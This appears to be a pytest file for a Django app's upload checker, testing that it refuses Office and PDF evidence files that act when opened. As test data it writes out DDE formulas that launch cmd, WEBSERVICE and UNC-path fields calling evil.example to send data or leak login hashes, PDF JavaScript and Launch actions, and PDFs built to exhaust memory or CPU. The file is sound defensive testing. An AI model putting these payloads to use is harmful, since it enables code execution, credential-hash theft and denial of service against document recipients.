"""Evidence files that act when opened are refused (issue 18 item 13), judged by content.

A manager opens 別紙 on an office PC: a DDE formula runs a program, WEBSERVICE or IMAGE calls a
server, an INCLUDEPICTURE field with a UNC path sends the Windows login hash, PDF JavaScript
runs on opening, and a ZIP with two entries of one name is read differently by Python and Office.
"""

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from cycle.file_types import (
    ERROR_ACTIVE_DOCUMENT,
    ERROR_ACTIVE_PDF,
    ERROR_ACTIVE_WORKBOOK,
    ERROR_DUPLICATE_ENTRY,
    FileKind,
    FileRejected,
    detect_kind,
)
from cycle.models import Attachment, Comment
from tests.workflow_world import OPEN_YEAR, PASSWORD

from . import samples

WORKBOOKS_THAT_CALL_OUT = {
    "dde": "cmd|' /C calc'!A0",
    "dde-in-a-sum": "SUM(1,msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!'A1')",
    "webservice": 'WEBSERVICE("http://evil.example/?"&A2)',
    "webservice-xlfn": '_xlfn.WEBSERVICE("http://evil.example/")',
    "filterxml": 'FILTERXML(WEBSERVICE("http://evil.example/"),"//a")',
    "image": '_xlfn.IMAGE("https://evil.example/pixel.png")',
    "rtd": 'RTD("evil.server",,"x")',
    "call": 'CALL("kernel32","WinExec","JCJ","calc",0)',
}


@pytest.mark.parametrize("formula", WORKBOOKS_THAT_CALL_OUT.values(), ids=WORKBOOKS_THAT_CALL_OUT.keys())
def test_a_workbook_whose_formula_calls_out_of_excel_is_refused(formula):
    with pytest.raises(FileRejected) as refused:
        detect_kind(io.BytesIO(samples.xlsx_with_formula(formula)))
    assert str(refused.value) == ERROR_ACTIVE_WORKBOOK


def test_a_workbook_with_an_external_data_connection_is_refused():
    with pytest.raises(FileRejected, match="外部への参照"):
        detect_kind(io.BytesIO(samples.xlsx_with_a_data_connection()))


def test_a_dde_defined_name_is_refused():
    with pytest.raises(FileRejected, match="DDE"):
        detect_kind(io.BytesIO(samples.xlsx_with_defined_name("cmd|'/C calc'!A0")))


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A2:A9)",
        '"受講者|講師"&B2',
        "'事項|一覧'!A1",
        "IMAGES_COUNT+1",
        'HYPERLINK("https://www.metro.tokyo.lg.jp/")',
    ],
    ids=["sum", "pipe-in-text", "pipe-in-a-sheet-name", "name-like-a-function", "hyperlink"],
)
def test_ordinary_formulas_are_accepted(formula):
    assert detect_kind(io.BytesIO(samples.xlsx_with_formula(formula))) == FileKind.XLSX


FIELDS_THAT_REACH_OUT = {
    "includepicture-unc": samples.complex_field(" INCLUDE", 'PICTURE "\\\\\\\\evil.example\\\\share\\\\a.png" \\d '),
    "includepicture-web": samples.complex_field(' INCLUDEPICTURE "http://evil.example/p.png" \\* MERGEFORMATINET '),
    "ddeauto": samples.simple_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
    "dde-lowercase": samples.complex_field(' dde "cmd" "/c calc" '),
    "includetext": samples.simple_field('INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\a.docx"'),
    "link": samples.complex_field(' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\x.xlsx" "" \\a '),
    "nested-in-an-if": samples.complex_field(" IF 1 = 1 ", inner=samples.complex_field(" DDEAUTO cmd ")),
}


@pytest.mark.parametrize("body", FIELDS_THAT_REACH_OUT.values(), ids=FIELDS_THAT_REACH_OUT.keys())
def test_a_document_with_a_field_that_fetches_or_runs_something_is_refused(body):
    with pytest.raises(FileRejected) as refused:
        detect_kind(io.BytesIO(samples.docx_with_body(body)))
    assert str(refused.value) == ERROR_ACTIVE_DOCUMENT


@pytest.mark.parametrize(
    "body",
    [
        samples.complex_field(" PAGE "),
        samples.simple_field("NUMPAGES"),
        samples.complex_field(' HYPERLINK "https://www.metro.tokyo.lg.jp/" \\o "LINK" '),
        "<w:r><w:t>INCLUDEPICTURE と DDEAUTO は本文の文字です</w:t></w:r>",
    ],
    ids=["page", "numpages", "hyperlink", "words-in-the-text"],
)
def test_ordinary_fields_and_text_are_accepted(body):
    assert detect_kind(io.BytesIO(samples.docx_with_body(body))) == FileKind.DOCX


def test_a_zip_with_two_content_types_entries_is_refused():
    with pytest.raises(FileRejected) as refused:
        detect_kind(io.BytesIO(samples.zip_with_two_content_types()))
    assert str(refused.value) == ERROR_DUPLICATE_ENTRY


def test_a_zip_with_two_names_that_differ_only_in_case_is_refused():
    content = samples.with_parts(samples.docx(), {"WORD/document.xml": "<x/>"})
    with pytest.raises(FileRejected, match="同じ名前"):
        detect_kind(io.BytesIO(content))


CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s>>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
PDFS_THAT_ACT = {
    "openaction-javascript": samples.pdf(CATALOG % b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ", PAGES),
    "openaction-reference": samples.pdf(CATALOG % b"/OpenAction 3 0 R ", PAGES, b"<< /S /URI /URI (http://e/) >>"),
    "escaped-name": samples.pdf(CATALOG % b"/Names << /J#61vaScript 3 0 R >> ", PAGES, b"<< /Names [] >>"),
    "js-stream": samples.pdf(CATALOG % b"", PAGES, b"<< /S /J#53 /JS 4 0 R >>"),
    "launch": samples.pdf(CATALOG % b"", PAGES, b"<< /S /Launch /F (calc.exe) >>"),
    "page-additional-action": samples.pdf(CATALOG % b"", PAGES, b"<< /Type /Page /AA << /O 4 0 R >> >>"),
    "embedded-file": samples.pdf(CATALOG % b"", PAGES, b"<< /Type /EmbeddedFile >>"),
    "remote-goto": samples.pdf(CATALOG % b"", PAGES, b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>"),
    "javascript-in-an-object-stream": samples.pdf_with_packed_objects(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "object-stream-with-another-filter": samples.pdf(
        CATALOG % b"", PAGES, samples.pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", b"00>")
    ),
    "undecodable-object-stream": samples.pdf(
        CATALOG % b"", PAGES, samples.pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"encrypted")
    ),
}


@pytest.mark.parametrize("content", PDFS_THAT_ACT.values(), ids=PDFS_THAT_ACT.keys())
def test_a_pdf_that_acts_when_opened_or_cannot_be_inspected_is_refused(content):
    with pytest.raises(FileRejected) as refused:
        detect_kind(io.BytesIO(content))
    assert str(refused.value) == ERROR_ACTIVE_PDF


@pytest.mark.parametrize(
    "content",
    [
        samples.PDF,
        samples.pdf(CATALOG % b"/OpenAction [3 0 R /XYZ null null 0] ", PAGES, b"<< /Type /Page >>"),
        samples.pdf(CATALOG % b"", PAGES, b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://e/) >> >>"),
        # Compressed page drawing and pictures are bytes, not names, even where they spell /JS.
        samples.pdf(
            CATALOG % b"", PAGES, samples.pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"x") + b"/JS /AA ")
        ),
        samples.pdf_with_packed_objects(b"<< /Type /Page /Parent 2 0 R >>"),
    ],
    ids=["minimal", "open-at-a-page", "web-link", "bytes-that-spell-js", "clean-object-stream"],
)
def test_ordinary_pdfs_are_accepted(content):
    assert detect_kind(io.BytesIO(content)) == FileKind.PDF


@pytest.mark.django_db
def test_the_page_refuses_an_active_file_beside_the_input_and_stores_nothing(world, media_root):
    client = Client()
    assert client.login(username=world.users["staff_own"].username, password=PASSWORD)
    upload = SimpleUploadedFile("集計.xlsx", samples.xlsx_with_formula(WORKBOOKS_THAT_CALL_OUT["dde"]))

    response = client.post(
        reverse("cycle:attachments", args=[world.own_item.id, OPEN_YEAR]), {"title": "別紙7-1", "file": upload}
    )

    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [ERROR_ACTIVE_WORKBOOK]
    assert Attachment.objects.count() == 0 and Comment.objects.count() == 0
    assert [path for path in media_root.rglob("*") if path.is_file()] == []


def test_a_part_that_would_need_a_long_parse_is_refused_not_parsed(monkeypatch):
    # Only parts whose bytes show a suspect word are parsed; one too large to parse within a
    # worker's time is refused at once (a 37 MB sheet part took ~19 s to parse on a busy machine).
    from cycle import file_types
    from cycle.file_types import ERROR_TOO_LARGE_INSIDE

    monkeypatch.setattr(file_types, "_MAX_PARSED_PART_BYTES", 100)
    with pytest.raises(FileRejected) as refused:
        detect_kind(io.BytesIO(samples.xlsx_with_formula('"a|b"&A2')))
    assert str(refused.value) == ERROR_TOO_LARGE_INSIDE


def test_a_pdf_of_millions_of_names_is_refused_within_100_mb_and_seconds():
    # Red team, production mode: an 8 MB PDF of 4,000,000 names (「/X」) took the web worker from
    # 77 MB to 491 MB, because every name was kept in a list before any was looked at; a 63 KB PDF
    # whose object stream inflates to 62 MB of names kept it busy 42 s (gunicorn kills at 60).
    import time
    import tracemalloc

    from cycle.file_types import ERROR_TOO_LARGE_INSIDE

    plain = samples.pdf(CATALOG % (b"/X" * 2_000_000), PAGES)
    packed = samples.pdf(
        CATALOG % b"",
        PAGES,
        samples.pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"/X" * 31_000_000, 9)),
    )
    for content in (plain, packed):
        # CPU time of this process: what the web worker spends, whatever the other test processes do.
        started = time.process_time()
        tracemalloc.start()
        try:
            with pytest.raises(FileRejected) as refused:
                detect_kind(io.BytesIO(content))
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert str(refused.value) == ERROR_TOO_LARGE_INSIDE
        assert peak < 100 * 1024 * 1024
        assert time.process_time() - started < 15


def test_a_pdf_of_800000_open_at_a_page_actions_is_read_in_seconds():
    # Red team: each /OpenAction copied the rest of the text to look for its "[": a 9.6 MB PDF of
    # 800,000 of them kept the check busy over 60 s, past gunicorn's timeout.
    import time

    content = samples.pdf(CATALOG % (b"/OpenAction[" * 800_000), PAGES)
    started = time.process_time()  # the worker's CPU, not the machine's load
    assert detect_kind(io.BytesIO(content)) == FileKind.PDF
    assert time.process_time() - started < 15
